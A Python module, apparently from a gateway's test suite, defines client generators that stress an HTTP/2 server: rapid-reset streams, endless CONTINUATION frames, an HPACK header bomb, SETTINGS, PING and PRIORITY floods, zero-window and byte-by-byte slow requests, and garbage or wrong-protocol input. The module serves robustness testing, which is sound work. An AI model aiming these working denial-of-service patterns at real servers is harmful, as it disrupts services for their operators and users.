"""Clients that attack the gateway or talk to the wrong port: each floods a connection, and yields after every step."""

import contextlib
import inspect
import random
import ssl

import floods_http1
from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    call,
    field,
    frame,
    head,
    headers,
    message,
    reset,
    settings,
    window_update,
)

LAST_STREAM = (1 << 31) - 1


def streams():
    return range(1, LAST_STREAM, 2)


def rapid_reset(connection):
    """Calls that are reset immediately, a hundred in one write."""
    connection.send_preface()
    ids = streams()
    for first in ids[::100]:
        connection.push(b"".join(call(stream) + reset(stream) for stream in range(first, first + 200, 2)))
        yield


def rapid_reset_paced(connection):
    """A call, its reset, and a wait until the gateway has read both."""
    connection.send_preface()
    for stream in streams():
        connection.push(call(stream) + reset(stream), reads=False)
        connection.ping()
        yield


def continuation(connection):
    """Headers that never end, in full frames."""
    connection.send_preface()
    connection.push(frame(HEADERS, 0, 1, head("/")))
    while True:
        connection.push(frame(CONTINUATION, 0, 1, field("x", "y" * 16000)))
        yield


def continuation_empty(connection):
    """Headers that never end, in empty frames."""
    connection.send_preface()
    connection.push(frame(HEADERS, 0, 1, head("/")))
    while True:
        connection.push(frame(CONTINUATION, 0, 1) * 1000)
        yield


def header_bomb(connection):
    """Headers that refer to one large field of the header table many times."""
    connection.send_preface()
    large = b"\x40" + field("x-large", "y" * 3000)[1:]
    for stream in streams():
        # 62 is the newest entry of the table.
        connection.push(frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/") + large + b"\xbe" * 10000))
        yield


def settings_flood(connection):
    """SETTINGS frames that change a value each time, a thousand in one write."""
    connection.send_preface()
    while True:
        connection.push(b"".join(settings((INITIAL_WINDOW_SIZE, size)) for size in range(1000)))
        yield


def ping_flood(connection):
    """Pings, a thousand in one write."""
    connection.send_preface()
    while True:
        connection.push(frame(PING, payload=b"12345678") * 1000)
        yield


def ping_flood_unread(connection):
    """The same pings from a client that reads none of the responses."""
    connection.send_preface()
    while True:
        connection.push(frame(PING, payload=b"12345678") * 1000, reads=False)
        yield


def priority_flood(connection):
    """PRIORITY frames for streams that do not exist."""
    connection.send_preface()
    for first in streams()[::1000]:
        connection.push(b"".join(frame(PRIORITY, 0, first + 2 * i, b"\0\0\0\0\x10") for i in range(1000)))
        yield


def empty_data(connection):
    """A request in empty frames."""
    connection.send_preface()
    connection.push(headers(1))
    while True:
        connection.push(frame(DATA, 0, 1) * 1000)
        yield


def window_of_zero(connection):
    """Streams of a client that allows no byte of the responses, eight hundred on one connection."""
    connection.send_preface((INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 1600, 2):
        connection.push(call(stream))
        yield


def window_of_one(connection):
    """Streams of a client that allows one byte at a time."""
    connection.send_preface((INITIAL_WINDOW_SIZE, 1))
    for stream in range(1, 200, 2):
        connection.push(call(stream))
    while True:
        connection.push(b"".join(window_update(stream, 1) for stream in range(1, 200, 2)))
        yield


def slow_headers(connection):
    """A hundred connections with one call each, whose headers arrive byte by byte and never end."""
    connections = [connection, *(connection.another() for _ in range(99))]
    for one in connections:
        one.send_preface()
    for byte in frame(HEADERS, END_HEADERS, 1, head("/"))[:-1]:
        for one in connections:
            one.push(bytes([byte]))
        yield


def slow_body(connection):
    """Eight hundred calls whose requests arrive byte by byte."""
    connection.send_preface()
    ids = range(1, 1600, 2)
    connection.push(b"".join(map(headers, ids)))
    for place in range(len(message()) - 1):
        for stream in ids:
            connection.push(frame(DATA, 0, stream, message()[place : place + 1]))
            yield


def many_streams(connection):
    """Ten thousand calls on one connection, whose requests do not end."""
    connection.send_preface()
    for first in streams()[:10000:100]:
        connection.push(b"".join(map(headers, range(first, first + 200, 2))))
        yield


def garbage(connection):
    """Random bytes instead of HTTP/2."""
    connection.push(random.Random(7).randbytes(1 << 16))
    yield


def garbage_frames(connection):
    """The preface of HTTP/2, and then random bytes."""
    connection.send_preface()
    connection.push(random.Random(8).randbytes(1 << 16))
    yield


def tls_hello(connection):
    """A ClientHello of TLS, to a port in plaintext."""
    hello = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
    connection.push(hello.read())
    yield


def http1(connection):
    """A request in HTTP/1.1."""
    connection.push(b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n")
    yield


FLOODS = [kind for kind in list(globals().values()) if inspect.isgeneratorfunction(kind)] + floods_http1.FLOODS
